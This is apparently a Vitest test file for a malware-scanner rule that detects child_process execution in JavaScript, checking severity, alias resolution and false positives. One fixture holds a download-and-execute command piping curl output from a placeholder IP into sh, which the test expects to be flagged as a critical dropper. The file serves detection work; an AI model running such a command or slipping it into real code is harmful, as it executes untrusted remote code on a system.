import { describe, expect, it } from 'vitest';
import { ruleFindings } from '../helpers.js';

describe('JS-001 process-execution', () => {
  it('reports a literal command and analyses it as shell', async () => {
    const f = await ruleFindings(
      'JS-001',
      "require('child_process').exec('curl -s http://192.0.2.1/x | sh')",
    );
    expect(f).toHaveLength(1);
    expect(f[0]!.severity).toBe('critical');
    expect(f[0]!.category).toBe('dropper');
  });
  it('resolves aliases and destructuring', async () => {
    const f = await ruleFindings(
      'JS-001',
      "const { spawn: s } = require('node:child_process'); s('ls', ['-la']);",
    );
    expect(f[0]?.message).toContain('ls -la');
    expect(f[0]?.severity).toBe('low');
  });
  it('ignores unrelated exec methods', async () => {
    expect(await ruleFindings('JS-001', "const re = /a/; re.exec('abc'); db.exec('select 1');")).toHaveLength(
      0,
    );
  });
});
